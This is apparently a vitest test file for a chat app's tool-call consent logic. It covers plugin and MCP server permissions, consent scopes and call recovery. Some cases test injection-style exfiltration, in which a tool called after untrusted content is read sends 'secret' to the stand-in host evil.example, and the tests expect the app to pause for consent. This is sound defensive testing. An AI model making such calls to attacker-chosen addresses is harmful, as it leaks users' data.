// The next step of a call, by its row and the consents: the complete table.
import { expect, test } from 'vitest';
import { consentsAfter, nothingRead } from '../../shared/tools/asks-again.ts';
import { shownDigest } from '../../shared/tools/consent.ts';
import { functionTable } from '../../shared/tools/names.ts';
import type { ToolSource } from '../../shared/tools/sources.ts';
import type { TurnCall } from '../storage/repositories/turn-calls.ts';
import { callStep } from './call-step.ts';
import type { Situation } from './call-step.ts';
import { isThrough, placeAfterCalls } from './turn-rules.ts';
import type { Turn } from '../storage/repositories/turns.ts';

const source: ToolSource = {
  origin: 'installed',
  manifest: {
    identifier: 'weather',
    gateway: 'https://gateway.example.com/',
    api: [
      { name: 'read', access: 'read' },
      { name: 'write', access: 'write' },
    ],
  },
  url: 'https://plugins.example.com/m.json',
};
const moved: ToolSource = {
  ...source,
  manifest: { ...source.manifest, gateway: 'https://elsewhere.example.com/' },
};
const nothing: Situation = {
  sources: [source],
  tools: functionTable([source]),
  plugins: ['weather'],
  read: nothingRead,
  consents: { chat: [], always: [] },
  agreed: () => false,
};
const args = '{"city":"Oslo"}';
const ref = nothing.tools.get('weather____write');
const shown = ref ? shownDigest(ref, args) : '';
const granted = new Set(ref ? [shownDigest(ref, '')] : []);
const row: TurnCall = {
  turnId: 't',
  messageId: 'm',
  position: 0,
  callId: 'c',
  name: 'weather____write',
  arguments: args,
  state: 'open',
  decision: null,
  decidedArguments: null,
  shown: null,
  attempts: 0,
  again: 0,
  resultId: 'r',
  owner: null,
  startedAt: null,
  endedAt: null,
  note: null,
  reply: null,
};
const running = { state: 'running', owner: 'another', attempts: 1 };
const read = { name: 'weather____read' };
const consents = { chat: ['weather/write/https://plugins.example.com/m.json'], always: [] };
const anothers = 'clock/write/https://plugins.example.com/m.json';

const own: ToolSource = {
  origin: 'bundled',
  manifest: {
    identifier: 'clock',
    api: [
      { name: 'now', access: 'read' },
      { name: 'set', access: 'write' },
    ],
  },
};
const ownOn = { sources: [own], tools: functionTable([own]), plugins: ['clock'] };

test.each<[name: string, call: Partial<TurnCall>, situation: Partial<Situation>, here: boolean, type: string]>([
  ['nobody has agreed', {}, {}, false, 'wait'],
  ['bundled, and only reads', { name: 'clock____now' }, ownOn, false, 'run'],
  ['bundled, and only reads, but it is off', { name: 'clock____now' }, { ...ownOn, plugins: [] }, false, 'wait'],
  ['bundled, and changes something', { name: 'clock____set' }, ownOn, false, 'wait'],
  ['installed, and only reads', read, {}, false, 'wait'],
  ['agreed to in this chat', {}, { consents }, false, 'run'],
  ['agreed to always', {}, { consents: { chat: [], always: consents.chat } }, false, 'run'],
  ['agreed to, and the plugin is off', {}, { consents, plugins: [] }, false, 'wait'],
  ['agreed to another class', read, { consents }, false, 'wait'],
  ['agreed to another plugin', {}, { consents: { chat: [], always: [anothers] } }, false, 'wait'],
  ['agreed to by a switch of the chat', {}, { agreed: () => true }, false, 'run'],
  ['decided', { decision: 'once', shown }, {}, false, 'run'],
  ['decided, and the plugin is off', { decision: 'once', shown }, { plugins: [] }, false, 'run'],
  ['decided for another address', { decision: 'always', shown }, { tools: functionTable([moved]) }, false, 'ask anew'],
  ['declined', { decision: 'decline' }, {}, false, 'result declined'],
  ['cancelled before it ran', { decision: 'cancel' }, {}, false, 'result declined'],
  ['scheduled, and agreed to for it', {}, { granted }, false, 'run'],
  [
    'scheduled, and agreed to always but not for it',
    {},
    { consents, granted: new Set<string>() },
    false,
    'result declined',
  ],
  [
    'scheduled, and a switch of the chat is on',
    {},
    { agreed: () => true, granted: new Set<string>() },
    false,
    'result declined',
  ],
  ['scheduled, and the address is another', {}, { granted, tools: functionTable([moved]) }, false, 'result declined'],
  ['no such tool', { name: 'rain' }, {}, false, 'result unknown'],
  ['decided, and removed since', { decision: 'once', shown }, { tools: new Map() }, false, 'result unknown'],
  ['runs here', running, {}, true, 'runs'],
  ['runs here, and is cancelled', { ...running, decision: 'cancel' }, {}, true, 'cancel'],
  ['ran in a process that died', running, {}, false, 'result failed'],
  ['ran there, and was cancelled', { ...running, decision: 'cancel' }, {}, false, 'result cancelled'],
  ['ran there, and only reads', { ...running, ...read }, {}, false, 'reopen'],
  ['ran there twice', { ...running, ...read, attempts: 2 }, {}, false, 'result failed'],
  ['ended', { state: 'ended' }, {}, false, 'over'],
  ['lost', { state: 'lost' }, {}, false, 'over'],
  ['dropped', { state: 'dropped' }, {}, false, 'over'],
])('%s', (_name, call, situation, here, type) => {
  const step = callStep({ ...row, ...call }, { ...nothing, ...situation }, here);
  expect(step.type === 'result' ? `result ${step.result.outcome}` : step.type).toBe(type);
});

const served = (id: string, more: object = {}): ToolSource => ({
  origin: 'mcp',
  manifest: { identifier: `mcp-${id}`, api: [{ name: 'do', access: 'write', ...more }] },
  mcp: { server: id, always: ['do'], reads: [], digests: { do: 'd' } },
});
const page: ToolSource = {
  origin: 'bundled',
  manifest: { identifier: 'web-page', api: [{ name: 'read', access: 'outside' }] },
};
const search: ToolSource = {
  origin: 'bundled',
  manifest: { identifier: 'web-search', api: [{ name: 'search', access: 'outside' }] },
};
const reader = served('reader');
const claims: ToolSource = {
  ...reader,
  mcp: { server: 'reader', always: ['do'], reads: ['do'], digests: { do: 'd' } },
};
const allowed = ['web-page/outside', 'web-search/outside', consents.chat[0] ?? ''];
const seen = (source: ToolSource, id: string, args: string, given: readonly string[] = allowed) => {
  const tools = functionTable([source]);
  const [name = ''] = tools.keys();
  const read = {
    sources: new Set(id === '' ? [] : [id]),
    words: [
      { by: 'user', text: 'Look at https://user.example/a?b=1, please.' },
      { by: 'others', text: '[more](https://others.example/c) and example.org.' },
    ] as const,
  };
  const situation = { ...nothing, sources: [source], tools, plugins: [source.manifest.identifier], read };
  return callStep({ ...row, name, arguments: args }, { ...situation, consents: { chat: given, always: given } }, false);
};
const to = (url: string): string => JSON.stringify({ url });

test.each<[name: string, source: ToolSource, read: string, args: string, asks: boolean]>([
  ['a server that writes, nothing read', served('notes'), '', '{}', false],
  ['a server that writes, after another server', served('notes'), 'mcp-reader', '{}', true],
  ['a server that writes, after a file of the user', served('notes'), 'attachments', '{}', true],
  ['a server that writes, after its own words', served('notes'), 'mcp-notes', '{}', true],
  ['one that reaches outside, after another', served('notes', { access: 'outside' }), 'mcp-reader', '{}', true],
  ['one that only reads, by its operator’s word', served('notes', { access: 'read' }), 'mcp-reader', '{}', false],
  ['one that says it only reads, after its own words', claims, 'mcp-reader', '{}', false],
  ['one that says it only reads, after another', claims, 'mcp-notes', '{}', true],
  ['and with an address of the model’s own', claims, 'mcp-reader', to('https://evil.example/?q=secret'), true],
  ['an installed plugin, after a page', source, 'web-page', '{}', true],
  ['an installed plugin, after its own words', source, 'weather', '{}', false],
  ['a page at an address of the model’s own', page, 'mcp-reader', to('https://evil.example/?q=secret'), true],
  ['and nothing was read', page, '', to('https://evil.example/?q=secret'), false],
  ['a page that the user named', page, 'web-page', to('https://user.example/a?b=1'), false],
  ['the beginning of its address', page, 'web-page', to('https://user.example/a'), true],
  ['a page that another page names', page, 'web-page', to('https://others.example/c'), false],
  ['a host that was named in passing', page, 'web-page', to('https://example.org/'), false],
  ['a host below it', page, 'web-page', to('https://secret.example.org/'), true],
  ['a search, by the provider of the user’s choice', search, 'web-page', '{"query":"secret"}', false],
])('allowed always, and what was read: %s', (_name, tool, read, args, asks) => {
  const outside = {
    ...tool,
    manifest: { ...tool.manifest, api: tool === source ? [{ name: 'go' }] : tool.manifest.api },
  };
  const given = [...allowed, 'weather/outside/https://plugins.example.com/m.json'];
  expect(seen(outside, read, args, given)).toMatchObject(asks ? { type: 'wait', about: [read] } : { type: 'run' });
});

test('allowed in this chat after one source, it asks about another', () => {
  const notes = served('notes');
  const given = ['mcp-notes/do/d after mcp-reader'];
  expect(seen(notes, 'mcp-reader', '{}', given).type).toBe('run');
  expect(seen(notes, 'web-page', '{}', given)).toEqual({ type: 'wait', about: ['web-page'] });
});

test.each([
  ['a server', served('notes'), ['mcp-reader'], ['mcp-reader', 'mcp-notes']],
  ['a server, on a card without a warning', served('notes'), [], []],
  ['a page, after a server', page, ['mcp-reader'], ['mcp-reader']],
  ['a page, after a page', page, ['mcp-reader', 'web-page'], ['mcp-reader', 'web-page']],
])('consent in this chat to %s holds after what its card named', (_name, tool, about, sources) => {
  const [ref] = functionTable([tool]).values();
  const given = ref ? consentsAfter(ref, about) : [];
  expect(given.map((each) => each.replace(/^.* after /, ''))).toEqual(sources);
});

test('it runs with the arguments as the user changed them', () => {
  const decided = { ...row, decision: 'once', shown, decidedArguments: '{"city":"Bergen"}' };
  expect(callStep(decided, nothing, false)).toMatchObject({ type: 'run', args: '{"city":"Bergen"}' });
});

const turn = { state: 'tool', reason: null, round: 2 } as Turn; // the rest is not looked at
const last = { ...turn, round: 10 };
const [ended, lost, again] = [
  { ...row, state: 'ended' },
  { ...row, state: 'lost' },
  { ...row, state: 'ended', again: 1 },
];
test.each<[name: string, turn: Turn, call: TurnCall, more: Parameters<typeof placeAfterCalls>[2], place: string]>([
  ['all answered', turn, ended, {}, 'streaming 3'],
  ['after the last round', last, ended, {}, 'waiting rounds 10'],
  ['and the user wants it to go on', last, ended, { wanted: true }, 'streaming 11'],
  ['one run again', last, again, {}, 'streaming 11'],
  ['one of which nobody knows', turn, lost, {}, 'waiting consent 2'],
  ['and the user wants it to go on', turn, lost, { wanted: true }, 'streaming 3'],
  ['its key is gone', turn, ended, { keyLost: true }, 'waiting key 2'],
])('after the calls: %s', (_name, at, call, more, place) => {
  const { state, reason, round } = placeAfterCalls(at, [ended, call], more);
  expect([state, reason, round].filter(Boolean).join(' ')).toBe(place);
});

test.each([
  ['open', false],
  ['running', false],
  ['ended', true],
  ['lost', true],
  ['dropped', true],
])('a turn with a call that is %s is through: %s', (state, through) => {
  expect(isThrough([{ state: 'ended' }, { state }])).toBe(through);
});
